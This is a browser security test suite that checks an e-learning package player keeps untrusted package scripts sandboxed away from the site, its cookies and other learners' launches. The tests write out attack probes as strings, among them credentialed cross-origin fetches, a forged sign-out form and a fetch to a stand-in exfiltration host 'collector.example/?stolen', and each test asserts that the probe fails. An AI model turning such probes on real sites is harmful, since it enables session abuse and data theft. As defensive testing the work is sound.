import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Frame, Page } from 'playwright-core';
import type { PlayerTables } from '../../server/player/index.ts';
import { openHouseInBrowser } from '../kit/browser.ts';
import type { OpenedHouse } from '../kit/browser.ts';
import { oneSco, shelve } from './kit/packages.ts';
import { content, play } from './kit/play.ts';

// A package is somebody else's script: what it may not do is tried here from inside one, with Sofia signed in beside it.
let house: OpenedHouse;
let page: Page;
let inside: Frame;
let other: string;
let moduleId: string;
beforeAll(async () => {
  house = await openHouseInBrowser();
  const shelved = await shelve(house, oneSco('1.2'), { title: 'Untrusted' });
  moduleId = shelved.moduleId;
  const foreign = await shelve(house, { ...oneSco('2004'), files: { 'secret.txt': 'of another package' } });
  other = foreign.digest;
  page = await house.as('sofia');
  inside = await play(house, page, 'sofia', moduleId);
});
afterAll(() => house?.close());

/** What a script of the package comes to: the value, or the name of the error. */
const attempt = (code: string): Promise<unknown> =>
  inside.evaluate(`(async () => { ${code} })().catch((error) => error.name)`);

test('it runs on another origin than the site', async () => {
  expect(await inside.evaluate('location.origin')).toBe(house.contentOrigin);
  expect(house.contentOrigin).not.toBe(house.siteOrigin);
});

test('it cannot read a page of the site', async () => {
  expect(await attempt(`return (await fetch('${house.siteOrigin}/', { credentials: 'include' })).text()`)).toBe(
    'TypeError',
  );
});

test('it cannot frame a page of the site', async () => {
  const framed = await attempt(`
    const frame = document.createElement('iframe');
    frame.src = '${house.siteOrigin}/';
    document.body.append(frame);
    await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 2000); });
    return frame.contentDocument === null || frame.contentDocument.body.textContent.trim();
  `);
  expect([true, '']).toContain(framed);
});

test('its calls to the site have no effect', async () => {
  const before = await launches();
  const statuses: unknown[] = [];
  page.on('response', (response) => response.url().startsWith(house.siteOrigin) && statuses.push(response.status()));
  await attempt(
    `await fetch('${house.siteOrigin}/sign-out', { method: 'POST', mode: 'no-cors', credentials: 'include' })`,
  );
  await attempt(`
    const form = document.createElement('form');
    form.method = 'post'; form.action = '${house.siteOrigin}/sign-out'; form.target = 'elsewhere';
    document.body.append(form); form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
  `);
  expect(statuses.filter((status) => Number(status) < 400)).toEqual([]);
  expect(await launches()).toEqual(before);
  const site = await page.context().newPage();
  await site.goto('/');
  expect(new URL(site.url()).pathname).not.toBe('/sign-in');
  await site.close();
});

const launches = () => house.database.sql<PlayerTables>().selectFrom('launches').select('id').orderBy('id').execute();

test('it sees no cookie: neither the session nor its own grant', async () => {
  expect(await inside.evaluate('document.cookie')).toBe('');
  expect(await page.evaluate('document.cookie')).toBe('');
  const cookies = await page.context().cookies(house.siteOrigin);
  expect(cookies.length).toBeGreaterThan(0);
  expect(cookies.every(({ httpOnly }) => httpOnly)).toBe(true);
});

test('it cannot read the files of a package that this learner has not opened', async () => {
  expect(await attempt(`return (await fetch('/packages/${other}/secret.txt')).status`)).toBe(403);
});

test('it cannot speak for another launch', async () => {
  const victim = await house.player.start(await house.actor('lena'), moduleId, '/');
  const { pathname } = new URL(victim);
  const guess = pathname.replace(/[\w-]{6}\/$/, 'guess1/');
  const status = await attempt(
    `return (await fetch('${guess}commits', { method: 'POST', body: '{"entries":[]}' })).status`,
  );
  expect(status).toBe(404);
  expect(await attempt(`return (await fetch('${guess}launch')).status`)).toBe(404);
});

test('it cannot speak to hosts that nobody approved', async () => {
  expect(await attempt(`return (await fetch('https://collector.example/?stolen')).status`)).toBe('TypeError');
});

test('another site cannot read the player, nor show it in a frame', async () => {
  const answer = await page.request.get(page.url());
  expect(answer.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  const file = await page.request.get(inside.url());
  expect(file.headers()['cross-origin-resource-policy']).toBe('same-origin');
  expect(file.headers()['cache-control']).toBe('private, max-age=31536000, immutable');
  expect(file.headers()['permissions-policy']).toContain('unload=(self)');
});

test('what it takes out of the API object does not stay taken out', async () => {
  await attempt(`window.parent.API.LMSGetValue = () => 'mine'; window.parent.API = {}; return 1;`);
  await page.reload();
  const again = await content(page);
  expect(await again.evaluate(`lms.LMSGetValue('cmi.core.lesson_mode')`)).toBe('normal');
});
